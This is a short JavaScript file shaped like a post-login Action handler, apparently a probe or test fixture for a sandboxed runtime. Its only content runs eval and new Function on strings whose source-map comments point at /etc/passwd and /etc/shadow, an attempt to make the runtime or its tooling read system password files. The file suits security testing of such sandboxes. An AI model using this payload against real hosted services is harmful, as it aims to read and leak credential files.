exports.onExecutePostLogin = async function (event, api) {
  eval("1\n//# sourceMappingURL=/etc/passwd"); new Function("return 1\n//# sourceMappingURL=/etc/shadow")();
};
//# sourceMappingURL=/etc/passwd
